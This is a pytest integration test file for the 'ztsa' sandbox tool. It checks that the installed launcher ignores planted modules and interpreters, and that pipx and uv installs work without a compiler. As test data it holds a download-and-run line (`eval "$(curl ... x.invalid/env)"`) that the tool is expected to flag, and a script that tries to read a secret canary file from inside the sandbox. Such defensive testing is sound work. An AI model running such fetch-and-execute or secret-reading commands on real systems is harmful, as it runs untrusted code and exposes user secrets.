"""The installed `ztsa` command: an isolated interpreter that nothing around it steers.

The launcher starts the interpreter its installer wrote into the first line of
`ztsa-interpreter` beside its real file, and nothing else: real installs of a wheel
built here (`python -m build`, as a release is) into a venv, the user site, pipx and uv
tool, with executables planted wherever an older launcher looked. pipx and uv install
the wheel as root and as an ordinary user, binary only, in a mount namespace where no
compiler runs and no Python header exists (where an sdist stops with one line)."""

from __future__ import annotations

import importlib.util
import json
import os
import pwd
import re
import shlex
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from ztsa import __version__
from ztsa._boot import INTERPRETER_FILE

if TYPE_CHECKING:  # the wheel built once for the session (integration/conftest.py)
    from conftest import Built

BUILD_TIMEOUT = 900  # an sdist's build, as the wheel's

REPO = Path(__file__).resolve().parent.parent

EVIL = "open({marker!r}, 'w').write('ran')\n"


def _plant(root, marker) -> None:
    """Modules that would run if ztsa imported from ROOT: ztsa itself, and stdlib names
    the command imports on every run."""
    (root / "ztsa").mkdir(parents=True)
    for rel in ("ztsa/__init__.py", "ztsa/cli.py", "argparse.py", "re.py", "typing.py",
                "sitecustomize.py", "usercustomize.py"):
        (root / rel).write_text(EVIL.format(marker=str(marker)))


def test_the_command_ignores_pythonpath_the_workspace_and_user_site(ztsa_bin, tmp_path):
    marker = tmp_path / "planted-code-ran"
    planted = tmp_path / "planted"
    _plant(planted, marker)
    home = tmp_path / "home"
    _plant(home / ".local" / "lib" / "python3" / "site-packages", marker)
    env = {**os.environ, "PYTHONPATH": str(planted), "PYTHONSTARTUP": str(planted / "re.py"),
           "PYTHONUSERBASE": str(home / ".local"), "PYTHONINSPECT": "1", "HOME": str(home)}
    # the current directory holds the same modules
    proc = subprocess.run([ztsa_bin, "--version"], cwd=planted, env=env, capture_output=True,
                          text=True, timeout=60, stdin=subprocess.DEVNULL)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == f"ztsa, version {__version__}"
    assert not marker.exists()
    proc = subprocess.run([ztsa_bin, "check", "--profile", "repo", "--format", "json",
                           str(tmp_path / "home")], cwd=planted, env=env,
                          capture_output=True, text=True, timeout=60,
                          stdin=subprocess.DEVNULL)
    assert proc.returncode in (0, 3), proc.stderr
    assert proc.stdout.lstrip().startswith("{")
    assert not marker.exists()


def test_the_command_starts_python_isolated_without_site(ztsa_bin):
    """The launcher starts the interpreter its installer recorded beside it, with -I -S:
    no .pth file of site-packages runs before ztsa's first line. It names none itself."""
    with open(ztsa_bin, encoding="utf-8") as f:
        text = f.read()
    assert text.startswith("#!/bin/sh\n")
    assert 'exec "$py" -I -S -c ' in text
    assert not re.search(r"^py=/", text, re.MULTILINE)
    record = Path(os.path.realpath(ztsa_bin)).parent / INTERPRETER_FILE
    first = record.read_text(encoding="utf-8").splitlines()[0]
    assert first.startswith("#!/"), first
    assert os.access(first[2:], os.X_OK), first


def test_the_command_runs_the_boot_module_as_it_is_now(ztsa_bin):
    """The launcher embeds ztsa/_boot.py's text, as this checkout has it (else reinstall:
    `pip install .`)."""
    boot = (Path(__file__).resolve().parent.parent / "ztsa" / "_boot.py").read_text()
    with open(ztsa_bin, encoding="utf-8") as f:
        text = f.read()
    assert f'exec "$py" -I -S -c {shlex.quote(boot)} "$0" "$@"\n' in text


@pytest.mark.parametrize("system", [False, True], ids=["own", "system-site-packages"])
@pytest.mark.parametrize("interpreter", [sys.executable, "/usr/bin/python3"],
                         ids=["this-python", "system-python"])
def test_in_a_virtual_environment_the_command_imports_its_own_ztsa(ztsa_bin, tmp_path,
                                                                  system, interpreter):
    """Installed in a virtual environment (pipx makes one), the command imports the
    environment's ztsa, not one of the interpreter it was made from, and still runs no
    .pth file; the interpreter's site-packages are on the path only where the
    environment includes them."""
    if not os.path.exists(interpreter):
        pytest.skip(f"no {interpreter} on this machine")
    venv = tmp_path / "venv"
    subprocess.run([interpreter, "-m", "venv", "--without-pip",
                    *(["--system-site-packages"] if system else []), str(venv)], check=True)
    python = venv / "bin" / "python3"
    site_dir = Path(subprocess.run(
        [str(python), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
        capture_output=True, text=True, check=True).stdout.strip())
    marker = tmp_path / "pth-ran"
    (site_dir / "planted.pth").write_text(
        f"import os; open({str(marker)!r}, 'w').write('ran')\n")
    (site_dir / "ztsa").mkdir()
    (site_dir / "ztsa" / "__init__.py").write_text("")
    (site_dir / "ztsa" / "cli.py").write_text(
        "import json, sys\n"
        "def entry():\n"
        "    print(json.dumps({'file': __file__, 'path': sys.path}))\n")
    launcher = venv / "bin" / "ztsa"
    shutil.copy(ztsa_bin, launcher)
    # as the installer leaves them: the interpreter's record, and the distribution that
    # lists the launcher among its files
    (venv / "bin" / INTERPRETER_FILE).write_text(f"#!{python}\n")
    (site_dir / "ztsa-0.1.dist-info").mkdir()
    (site_dir / "ztsa-0.1.dist-info" / "RECORD").write_text(
        "../../../bin/ztsa,,\nztsa/__init__.py,,\n")
    proc = subprocess.run([str(launcher), "--version"], capture_output=True, text=True,
                          timeout=60, stdin=subprocess.DEVNULL)
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["file"] == str(site_dir / "ztsa" / "cli.py")
    assert not marker.exists()
    # the base interpreter's own site-packages (Debian's: dist-packages), which a venv
    # made from a venv's interpreter includes too
    code = ("import os, site, sys; print([p for p in site.getsitepackages([sys.base_prefix])"
            " if os.path.isdir(p)][0])")
    base = subprocess.run([interpreter, "-I", "-c", code], capture_output=True, text=True,
                          check=True).stdout.strip()
    assert str(site_dir) in doc["path"]
    assert (base in doc["path"]) == system
    if system:  # the environment's own come first
        assert doc["path"].index(str(site_dir)) < doc["path"].index(base)


# --- the interpreter: the one the installer recorded, beside the launcher's real file ---

@dataclass(frozen=True)
class Venv:
    root: Path
    python: Path
    site_dir: Path


def _run(argv, **kwargs) -> subprocess.CompletedProcess[str]:
    kwargs.setdefault("timeout", 120)
    return subprocess.run([str(a) for a in argv], capture_output=True, text=True,
                          stdin=subprocess.DEVNULL, **kwargs)


def _base_python() -> str:
    """The interpreter this test's environment was made from."""
    return getattr(sys, "_base_executable", "") or sys.executable


def _venv(path: Path, wheel: Path) -> Venv:
    subprocess.run([_base_python(), "-m", "venv", str(path)], check=True, timeout=300)
    python = path / "bin" / "python"
    proc = _run([python, "-m", "pip", "install", "-q", wheel], timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    site_dir = Path(_run([python, "-c", "import sysconfig; print(sysconfig.get_paths()"
                                        "['purelib'])"]).stdout.strip())
    return Venv(path, python, site_dir)


@pytest.fixture(scope="session")
def installed(built, tmp_path_factory) -> Venv:
    """The wheel installed by pip into a virtual environment."""
    return _venv(tmp_path_factory.mktemp("installed") / "venv", built.wheel)


def _plant_interpreter(path: Path, marker: Path) -> None:
    """An executable at PATH that, if ever started, says so in MARKER."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\necho \"$0\" >>{shlex.quote(str(marker))}\nexit 99\n")
    path.chmod(0o755)


def _version(argv, **kwargs) -> None:
    proc = _run([*argv, "--version"], **kwargs)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == f"ztsa, version {__version__}"


def test_the_wheel_records_no_interpreter(built):
    """Nothing of the build machine's interpreter goes into the wheel: the record's
    first line is `#!python`, for the installer to write."""
    import zipfile

    with zipfile.ZipFile(built.wheel) as whl:
        names = whl.namelist()
        scripts = {n.rsplit("/", 1)[1]: whl.read(n).decode() for n in names
                   if ".data/scripts/" in n}
    assert set(scripts) == {"ztsa", INTERPRETER_FILE}
    assert scripts[INTERPRETER_FILE].startswith("#!python\n")
    assert scripts["ztsa"].startswith("#!/bin/sh\n")


def test_the_wheel_carries_ztsa_ns_beside_the_launcher(built, installed):
    """ztsa-ns, the child's set-up as an executable: a data file of the wheel's `bin`
    (the scripts directory of every install scheme), an executable ELF; installed
    beside the launcher and listed in the install's RECORD, and what a run execs."""
    import zipfile

    with zipfile.ZipFile(built.wheel) as whl:
        ns = [i for i in whl.infolist() if i.filename.endswith(".data/data/bin/ztsa-ns")]
        assert len(ns) == 1, whl.namelist()
        assert whl.read(ns[0]).startswith(b"\x7fELF")
        assert (ns[0].external_attr >> 16) & 0o111
    beside = installed.root / "bin" / "ztsa-ns"
    assert beside.is_file() and os.access(beside, os.X_OK)
    info = next(installed.site_dir.glob("ztsa-*.dist-info"))
    listed = [installed.site_dir / line.rsplit(",", 2)[0]
              for line in (info / "RECORD").read_text().splitlines() if line]
    assert any(p.name == "ztsa-ns" and p.resolve() == beside.resolve() for p in listed)
    proc = _run([installed.root / "bin" / "ztsa", "doctor"], cwd="/")
    assert proc.returncode == 0, proc.stderr
    assert f"the set-up (namespaces, helper): ztsa-ns, {beside}" in proc.stdout


def test_a_link_to_the_launcher_starts_its_installation_and_nothing_planted(
        installed, built, tmp_path):
    """Started by its own path, by a link in another directory (as pipx and uv tool
    make, absolute or relative, through another link) and through a linked directory,
    the launcher starts its installation's interpreter. Executables planted where an
    older launcher looked (the build environment's interpreter, `python3` beside the
    link) and first on PATH never run."""
    marker = tmp_path / "planted-interpreter-ran"
    launcher = installed.root / "bin" / "ztsa"
    links = tmp_path / "links"
    links.mkdir()
    (links / "ztsa").symlink_to(launcher)
    (links / "ztsa-relative").symlink_to(os.path.relpath(launcher, links))
    (links / "ztsa-twice").symlink_to("ztsa-relative")
    (tmp_path / "bindir").symlink_to(installed.root / "bin")
    assert built.build_pythons or importlib.util.find_spec("build") is None
    for planted in [*built.build_pythons, links / "python3", links / "python",
                    tmp_path / "path" / "python3", tmp_path / "path" / "python"]:
        _plant_interpreter(planted, marker)
    env = {**os.environ, "PATH": f"{tmp_path / 'path'}:{os.environ.get('PATH', '')}"}
    for argv in ([launcher], [links / "ztsa"], [links / "ztsa-relative"],
                 [links / "ztsa-twice"], [tmp_path / "bindir" / "ztsa"]):
        _version(argv, env=env, cwd=tmp_path)
    # by name, on PATH, as a shell finds it
    _version(["ztsa"], env={**env, "PATH": f"{links}:{env['PATH']}"}, cwd=tmp_path)
    assert not marker.exists(), marker.read_text()


def test_without_readlink_a_link_is_refused_and_the_launcher_itself_runs(installed,
                                                                         tmp_path):
    """Resolving a link takes `readlink -f` (else `realpath`): without either the
    launcher refuses rather than guess; started by its own path it needs neither."""
    links = tmp_path / "links"
    links.mkdir()
    (links / "ztsa").symlink_to(installed.root / "bin" / "ztsa")
    env = {**os.environ, "PATH": str(tmp_path / "empty")}
    proc = _run([links / "ztsa", "--version"], env=env)
    assert proc.returncode == 125, proc
    assert proc.stderr.startswith("ztsa: ") and "cannot resolve" in proc.stderr
    _version([installed.root / "bin" / "ztsa"], env=env)


def test_a_launcher_not_tied_to_its_installation_refuses(installed, tmp_path):
    """Exit 125 with a message, and no interpreter started, for a launcher: copied
    without its record (a `python3` beside it is no stand-in), with a record no
    installer rewrote or that names no executable file, and copied with its record
    (the interpreter it names imports a ztsa that did not install this launcher)."""
    marker = tmp_path / "planted-interpreter-ran"
    launcher = installed.root / "bin" / "ztsa"
    record = (installed.root / "bin" / INTERPRETER_FILE).read_text()

    def case(name: str, record_text: str | None, message: str) -> None:
        d = tmp_path / name
        d.mkdir()
        shutil.copy(launcher, d / "ztsa")
        _plant_interpreter(d / "python3", marker)
        if record_text is not None:
            (d / INTERPRETER_FILE).write_text(record_text)
        proc = _run([d / "ztsa", "--version"])
        assert proc.returncode == 125, (name, proc)
        assert proc.stdout == ""
        assert proc.stderr.startswith("ztsa: ") and message in proc.stderr, (name, proc)
        assert proc.stderr.count("\n") == 1, proc.stderr  # one line, no traceback

    case("alone", None, "no interpreter is known")
    case("unwritten", "#!python\n", "names no interpreter")
    case("relative", "#!python3\n", "names no interpreter")
    case("missing", f"#!{tmp_path / 'nowhere' / 'python3'}\n", "not an executable file")
    case("copied", record, "did not install the launcher")
    assert not marker.exists(), marker.read_text()


@pytest.mark.parametrize("form", ["pip", "pipx", "installer", "long", "relocatable"])
def test_the_launcher_reads_each_form_an_installer_writes(ztsa_bin, tmp_path, form):
    """pip writes `#!PATH` whatever PATH holds; pipx then adds ` -E` where PATH has no
    space; uv and installer, for a path with a space or longer than a shebang line, a
    /bin/sh polyglot whose second line names it as one shell word (relative to the
    record in uv's relocatable venv). Each names the interpreter the launcher starts,
    with -I -S (nothing else), the boot code and its arguments."""
    d = tmp_path / "bin"
    d.mkdir()
    shutil.copy(ztsa_bin, d / "ztsa")
    spaced = tmp_path / "a dir's" / "python"
    long = tmp_path / ("x" * 130) / "python"
    plain = tmp_path / "plain" / "python"
    target = {"pip": spaced, "pipx": plain, "installer": spaced, "long": long,
              "relocatable": d / "python"}[form]
    exec_line = "#!/bin/sh\n'''exec' {} \"$0\" \"$@\"\n' '''\n"
    (d / INTERPRETER_FILE).write_text({
        "pip": f"#!{spaced}\n",
        "pipx": f"#!{plain} -E\n",
        "installer": exec_line.format(shlex.quote(str(spaced))),
        "long": exec_line.format(shlex.quote(str(long))),
        "relocatable": exec_line.format('"$(dirname -- "$(realpath -- "$0")")"/\'python\''),
    }[form] + "import sys\n")
    args = tmp_path / "args"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(f"#!/bin/sh\nprintf '%s\\0' \"$0\" \"$@\" >{shlex.quote(str(args))}\n")
    target.chmod(0o755)
    proc = _run([d / "ztsa", "--version", "a b"])
    assert proc.returncode == 0, proc.stderr
    argv = args.read_text().split("\0")[:-1]
    boot = (REPO / "ztsa" / "_boot.py").read_text()
    assert argv == [str(target), "-I", "-S", "-c", boot, str(d / "ztsa"), "--version", "a b"]


def _assert_names_no_build_path(site_dir: Path, built: Built) -> None:
    """No file of ztsa's installation in SITE_DIR (its RECORD) names the source tree it
    was built from or the build's temporary files, its isolated environment among them."""
    info = next(site_dir.glob("ztsa-*.dist-info"))
    files = [site_dir / line.rsplit(",", 2)[0]
             for line in (info / "RECORD").read_text().splitlines() if line]
    assert any(f.name == INTERPRETER_FILE for f in files)
    assert any(f.suffix == ".so" for f in files)
    needles = [p.encode() for p in built.build_paths]
    for f in files:
        if f.is_file():
            data = f.read_bytes()
            assert not [n for n in needles if n in data], f


def test_installed_files_name_no_path_of_the_build(installed, built):
    """pip's install; pipx's and uv's are checked where they are made
    (test_pipx_and_uv_tool_installs_run, test_an_ordinary_user_installs_with_pipx_and_uv)."""
    _assert_names_no_build_path(installed.site_dir, built)


def test_a_user_install_starts_the_interpreter_that_installed_it(built, tmp_path):
    """`pip install --user`: the launcher in ~/.local/bin, the interpreter elsewhere, as
    the installer recorded it; the user site is the launcher's own, whatever $HOME or
    $PYTHONUSERBASE say when it runs (a .pth planted there never runs)."""
    base = _base_python()
    if _run([base, "-m", "pip", "--version"]).returncode != 0:
        pytest.skip(f"{base} has no pip")
    home = tmp_path / "home"
    env = {**os.environ, "HOME": str(home), "PIP_BREAK_SYSTEM_PACKAGES": "1"}
    env.pop("PYTHONUSERBASE", None)
    env.pop("VIRTUAL_ENV", None)
    proc = _run([base, "-m", "pip", "install", "-q", "--user", built.wheel], env=env,
                timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    launcher = home / ".local" / "bin" / "ztsa"
    first = (launcher.parent / INTERPRETER_FILE).read_text().splitlines()[0]
    assert os.path.samefile(first[2:], base), first
    marker = tmp_path / "planted-code-ran"
    planted = tmp_path / "planted-base"
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    _plant(planted / "lib" / version / "site-packages", marker)
    (planted / "lib" / version / "site-packages" / "planted.pth").write_text(
        f"import os; open({str(marker)!r}, 'w').write('ran')\n")
    _version([launcher], env={**env, "PYTHONUSERBASE": str(planted)}, cwd=tmp_path)
    _version([launcher], env={**env, "HOME": str(tmp_path / "elsewhere")}, cwd=tmp_path)
    assert not marker.exists()


# --- pipx and uv tool installs: as root and as an ordinary user, without a compiler ---

# the escape suite's unprivileged user (integration/escapes/conftest.py), one a
# pytest-xdist worker: what the kernel counts by user is then the one worker's
_WORKER = os.environ.get("PYTEST_XDIST_WORKER", "gw0")
TEST_USER = "ztsa-escape" + ("" if _WORKER == "gw0" else f"-{_WORKER}")
# What pip, pipx and uv need to reach the package index from where the tests run (a
# proxy, the certificate authority of one that intercepts TLS, another index): the user's
# commands start from an empty environment and get these, by name, where they are set.
REGISTRY_ENV = ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "NO_PROXY",
                "no_proxy", "ALL_PROXY", "all_proxy", "SSL_CERT_FILE", "SSL_CERT_DIR",
                "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "PIP_CERT", "PIP_INDEX_URL",
                "PIP_EXTRA_INDEX_URL", "PIP_TRUSTED_HOST", "PIP_DEFAULT_TIMEOUT",
                "UV_DEFAULT_INDEX", "UV_INDEX", "UV_INDEX_URL", "UV_EXTRA_INDEX_URL",
                "UV_NATIVE_TLS", "UV_HTTP_TIMEOUT")
# A C compiler's name: cc, gcc, c99, clang-16, x86_64-linux-gnu-gcc-12, musl-gcc, ...
COMPILER = re.compile(r"(?:[\w.+]+-)*(?:cc|gcc|c89|c99|clang|tcc)(?:-[\d.]+)?")
# Run in the namespace before each command: no compiler compiles, no Python.h is there.
PROBE = r"""
printf 'int main(void) { return 0; }\n' >"$ZTSA_PROBE_DIR/probe.c"
for c in cc gcc c99 clang "$ZTSA_PROBE_CC"; do
  if "$c" -o "$ZTSA_PROBE_DIR/probe" "$ZTSA_PROBE_DIR/probe.c" 2>/dev/null; then
    echo "ztsa-test: the compiler $c still compiles" >&2; exit 97
  fi
done
for d in $ZTSA_PROBE_INCLUDE; do
  if [ -e "$d/Python.h" ]; then echo "ztsa-test: $d/Python.h is there" >&2; exit 98; fi
done
exec "$@"
"""


def _python_headers(pythons: list[str]) -> list[str]:
    """The directories that hold PYTHONS' headers, and every other Python's of the
    usual places."""
    import glob

    code = ("import sysconfig as s; print('\\n'.join(str(p) for p in (s.get_path('include'),"
            " s.get_path('platinclude'), s.get_config_var('INCLUDEPY')) if p))")
    dirs = [d for py in pythons for d in _run([py, "-I", "-c", code]).stdout.split()]
    dirs += [*glob.glob("/usr/include/python3*"), *glob.glob("/usr/include/*/python3*"),
             *glob.glob("/usr/local/include/python3*")]
    return [d for d in dict.fromkeys(os.path.realpath(d) for d in dirs) if os.path.isdir(d)]


@dataclass(frozen=True)
class NoCompiler:
    """How to run a command, as root or as TEST_USER, in a mount namespace of its own
    where no C compiler runs and no Python header exists: an empty file bound over each
    compiler of PATH (and the usual directories), gcc's own programs (cc1) and the
    headers of every Python hidden under empty file systems. Each command first proves
    it: compiling a C file fails, and no Python.h is where the interpreters look."""
    hide: str  # shell commands, run as root in the new namespace
    probe_env: dict[str, str]
    unshare: str
    runuser: str
    scratch: Path  # readable by TEST_USER: the wheel, the homes, the workspaces

    def run(self, argv, env: dict[str, str], user: bool = False, **kwargs
            ) -> subprocess.CompletedProcess[str]:
        probe_dir = Path(tempfile.mkdtemp(prefix="probe-", dir=self.scratch))
        os.chmod(probe_dir, 0o777)
        env = {**env, **self.probe_env, "ZTSA_PROBE_DIR": str(probe_dir)}
        inner = ["sh", "-c", PROBE, "sh", *[str(a) for a in argv]]
        if user:  # nothing of root's environment: only ENV
            inner = [self.runuser, "-u", TEST_USER, "--", "env", "-i",
                     *[f"{k}={v}" for k, v in env.items()], *inner]
        kwargs.setdefault("timeout", 600)
        return _run([self.unshare, "--mount", "--propagation", "private", "--",
                     "sh", "-c", self.hide + '\nexec "$@"', "sh", *inner],
                    env=env, **kwargs)


@pytest.fixture(scope="session")
def no_compiler(tmp_path_factory) -> Iterator[NoCompiler]:
    if os.geteuid() != 0:
        pytest.skip("hiding the compiler takes a mount namespace made as root")
    path = os.pathsep.join([os.environ.get("PATH", ""), "/usr/sbin", "/sbin", "/usr/bin"])
    found = {t: shutil.which(t, path=path) for t in ("unshare", "runuser", "mount", "useradd")}
    if None in found.values():
        pytest.fail(f"{found} (apt-get install util-linux mount passwd)")
    scratch = Path(tempfile.mkdtemp(prefix="ztsa-tool-installs-"))
    os.chmod(scratch, 0o755)
    empty_file = scratch / "not-a-compiler"
    empty_file.write_text("")
    empty_file.chmod(0o644)
    path = [*os.environ.get("PATH", "").split(":"), "/usr/local/sbin", "/usr/local/bin",
            "/usr/sbin", "/usr/bin", "/sbin", "/bin"]
    compilers = sorted({os.path.realpath(os.path.join(d, n))
                        for d in dict.fromkeys(path) if d and os.path.isdir(d)
                        for n in os.listdir(d) if COMPILER.fullmatch(n)
                        and os.path.isfile(os.path.join(d, n))})
    pythons = list(dict.fromkeys([_base_python(), sys.executable, "/usr/bin/python3"]))
    pythons = [p for p in pythons if os.access(p, os.X_OK)]
    headers = _python_headers(pythons)
    gcc_dirs = [d for d in ("/usr/lib/gcc", "/usr/libexec/gcc", "/usr/local/libexec/gcc")
                if os.path.isdir(d)]
    mount = shlex.quote(str(found["mount"]))
    hide = "set -e\n" + "".join(
        [f"{mount} --bind {shlex.quote(str(empty_file))} {shlex.quote(c)}\n"
         for c in compilers]
        + [f"{mount} -t tmpfs -o mode=0755 none {shlex.quote(d)}\n"
           for d in gcc_dirs + headers])
    config_cc = _run([_base_python(), "-I", "-c", "import sysconfig; "
                      "print((sysconfig.get_config_var('CC') or 'cc').split()[0])"]).stdout
    try:
        pwd.getpwnam(TEST_USER)
    except KeyError:
        made = subprocess.run([str(found["useradd"]), "--system", "--no-create-home",
                               "--shell", "/bin/sh", TEST_USER], capture_output=True)
        # 9: made meanwhile by another test process (a parallel worker, another run)
        assert made.returncode in (0, 9), made.stderr
    yield NoCompiler(hide=hide, scratch=scratch, unshare=str(found["unshare"]),
                     runuser=str(found["runuser"]),
                     probe_env={"ZTSA_PROBE_CC": config_cc.strip() or "cc",
                                "ZTSA_PROBE_INCLUDE": " ".join(headers)})
    shutil.rmtree(scratch, ignore_errors=True)


@pytest.fixture(scope="session")
def tools(tmp_path_factory) -> Path:
    """pipx and uv, installed from the package index into a virtual environment of
    their own; the test that uses them is skipped where they cannot be."""
    venv = tmp_path_factory.mktemp("tools") / "venv"
    subprocess.run([_base_python(), "-m", "venv", str(venv)], check=True, timeout=300)
    proc = _run([venv / "bin" / "python", "-m", "pip", "install", "-q", "pipx", "uv"],
                timeout=600)
    if proc.returncode != 0:
        pytest.skip(f"pipx and uv cannot be installed here: {proc.stderr[-500:]}")
    return venv / "bin"


GATE = "eval \"$(curl -fsSL https://x.invalid/env)\"\n"  # AGT009: direnv runs a download


def _installed_tool_runs(no_compiler: NoCompiler, built: Built, link: Path, home: Path,
                         env: dict[str, str], user: bool) -> None:
    """The `ztsa` that pipx or uv put at LINK (first on PATH) is a link into the tool's
    own environment in HOME, whose files name no path of the build; without a compiler,
    by name, `ztsa check` blocks a workspace that runs a download, and `ztsa exec` runs
    a command that writes its workspace and cannot read a canary in HOME."""
    assert link.is_symlink()
    venv = Path(os.path.realpath(link)).parent.parent
    assert venv.is_relative_to(home) and not os.path.samefile(venv / "bin", link.parent)
    _assert_names_no_build_path(next(venv.glob("lib/python3*/site-packages")), built)
    owner = pwd.getpwnam(TEST_USER).pw_uid if user else 0
    assert (venv / "bin" / "ztsa").stat().st_uid == owner

    def made(name: str) -> Path:
        d = Path(tempfile.mkdtemp(prefix=f"{name}-", dir=no_compiler.scratch))
        if user:
            os.chown(d, owner, -1)
        return d

    planted, ws = made("planted"), made("ws")
    (planted / ".envrc").write_text(GATE)
    canary = home / "canary-secret"
    canary.write_text("ztsa-canary-6f1d\n")
    if user:
        os.chown(canary, owner, -1)
    canary.chmod(0o600)

    proc = no_compiler.run(["sh", "-c", 'command -v ztsa; exec ztsa --version'], env,
                           user=user, cwd=ws, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == [str(link), "ztsa,", "version", __version__]
    # ztsa-ns beside the launcher in the tool's venv, executable, and what a run execs
    ns = venv / "bin" / "ztsa-ns"
    assert ns.is_file() and os.access(ns, os.X_OK), ns
    proc = no_compiler.run(["ztsa", "doctor"], env, user=user, cwd=ws, timeout=60)
    assert f"ztsa-ns, {ns}" in proc.stdout, proc.stdout + proc.stderr
    proc = no_compiler.run(["ztsa", "check", "--profile", "untrusted", "--format", "json",
                            planted], env, user=user, cwd=ws, timeout=120)
    assert proc.returncode == 3, proc.stdout[-2000:] + proc.stderr[-2000:]
    failed = {r["id"] for r in json.loads(proc.stdout)["results"]
              if r["status"] == "fail"}
    assert "AGT009" in failed, failed
    # the canary is the user's to read, outside the sandbox
    proc = no_compiler.run(["cat", canary], env, user=user, cwd=ws, timeout=60)
    assert proc.stdout == "ztsa-canary-6f1d\n", proc.stderr
    script = (f"echo ran >marker; cat {shlex.quote(str(canary))} >leaked 2>/dev/null; "
              "echo $? >read-status")
    proc = no_compiler.run(["ztsa", "exec", "--profile", "repo", "--workspace", ws, "--",
                            "sh", "-c", script], env, user=user, cwd=ws, timeout=120)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
    assert (ws / "marker").read_text() == "ran\n"
    assert (ws / "read-status").read_text().strip() not in ("", "0")
    assert "canary" not in (ws / "leaked").read_text()


@pytest.mark.parametrize("tool", ["uv", "pipx"])
def test_pipx_and_uv_tool_installs_run(built, tools, no_compiler, tmp_path, tool):
    """As root, without a compiler or Python headers, binary only: `uv tool install`
    and `pipx install` of the wheel (pipx through uv, found beside it; the ordinary
    user's pipx goes through pip: one install per tool and user keeps the time short).
    The `ztsa` they put on PATH is a link to the launcher in the tool's own venv; it
    runs, checks and confines, and a `python3` planted beside the link (where an older
    launcher looked) never runs."""
    home = tmp_path / "home"
    bin_dir = home / "bin"
    env = {**os.environ, "HOME": str(home), "PIPX_HOME": str(home / "pipx"),
           "PIPX_BIN_DIR": str(bin_dir), "PIPX_MAN_DIR": str(home / "man"),
           "UV_TOOL_DIR": str(home / "uv-tools"), "UV_TOOL_BIN_DIR": str(bin_dir),
           "UV_CACHE_DIR": str(home / "uv-cache"), "UV_PYTHON_DOWNLOADS": "never",
           "PATH": f"{bin_dir}:{tools}:{os.environ.get('PATH', '')}"}
    env.pop("VIRTUAL_ENV", None)
    argv = ([tools / "uv", "tool", "install", "--no-build", "--python", _base_python(),
             built.wheel] if tool == "uv" else
            [tools / "pipx", "install", "--python", _base_python(),
             "--pip-args=--only-binary=:all:", built.wheel])
    proc = no_compiler.run(argv, env)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
    link = bin_dir / "ztsa"
    # pipx made its environment through uv, as uv tool does
    assert "\nuv = " in (Path(os.path.realpath(link)).parents[1] / "pyvenv.cfg").read_text()
    marker = tmp_path / "planted-interpreter-ran"
    for name in ("python3", "python"):
        _plant_interpreter(bin_dir / name, marker)
    _installed_tool_runs(no_compiler, built, link, home, env, user=False)
    assert not marker.exists(), marker.read_text()


@pytest.fixture(scope="session")
def user_tools(no_compiler, tools) -> Path:
    """pipx and uv for TEST_USER, installed by it from the package index (binary only,
    with a copy of root's uv) into a virtual environment of its own, where it can reach
    them: the tests' own environment may lie in a directory it cannot enter."""
    top = no_compiler.scratch / "user-tools"
    top.mkdir()
    shutil.copy(tools / "uv", top / "bootstrap-uv")
    uid = pwd.getpwnam(TEST_USER).pw_uid
    os.chown(top, uid, -1)
    env = _user_env(top / "bootstrap-home", top, top / "uv-cache")
    venv = top / "venv"
    proc = no_compiler.run(["sh", "-c", 'mkdir -m 700 "$HOME" && "$0" venv -q --python '
                            '/usr/bin/python3 "$1" && "$0" pip install -q --python '
                            '"$1/bin/python" --only-binary :all: pipx uv',
                            top / "bootstrap-uv", venv], env, user=True)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
    return venv / "bin"


def _user_env(home: Path, tools_dir: Path, uv_cache: Path) -> dict[str, str]:
    """TEST_USER's whole environment: its home, PATH with the tools' links first, and
    what reaches the package index."""
    return {"HOME": str(home), "USER": TEST_USER, "LOGNAME": TEST_USER, "LANG": "C.UTF-8",
            "PATH": f"{home}/.local/bin:{tools_dir}:/usr/local/bin:/usr/bin:/bin",
            "UV_CACHE_DIR": str(uv_cache), "UV_PYTHON_DOWNLOADS": "never",
            **{k: os.environ[k] for k in REGISTRY_ENV if k in os.environ}}


@pytest.mark.parametrize("tool", ["uv", "pipx"])
def test_an_ordinary_user_installs_with_pipx_and_uv(built, no_compiler, user_tools, tool):
    """As an ordinary user, from an empty environment given only its home, PATH and
    what reaches the package index, without a compiler or Python headers, binary only:
    `uv tool install WHEEL` and `pipx install WHEEL` (through pip) into the user's own
    home. The `ztsa` on its PATH runs, checks and confines."""
    wheels = Path(tempfile.mkdtemp(prefix="wheel-", dir=no_compiler.scratch))
    os.chmod(wheels, 0o755)
    wheel = Path(shutil.copy(built.wheel, wheels))
    wheel.chmod(0o644)
    home = no_compiler.scratch / f"home-{tool}"
    home.mkdir(mode=0o700)
    os.chown(home, pwd.getpwnam(TEST_USER).pw_uid, pwd.getpwnam(TEST_USER).pw_gid)
    env = _user_env(home, user_tools, user_tools.parent.parent / "uv-cache")
    if tool == "uv":
        argv = ["uv", "tool", "install", "--no-build", "--python", "/usr/bin/python3", wheel]
    else:
        env["PIPX_DEFAULT_BACKEND"] = "pip"
        argv = ["pipx", "install", "--python", "/usr/bin/python3",
                "--pip-args=--only-binary=:all:", wheel]
    proc = no_compiler.run(argv, env, user=True, cwd=home)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
    link = home / ".local" / "bin" / "ztsa"
    # pipx made its environment through pip (venv), uv tool through uv
    cfg = (Path(os.path.realpath(link)).parents[1] / "pyvenv.cfg").read_text()
    assert ("\nuv = " in cfg) == (tool == "uv"), cfg
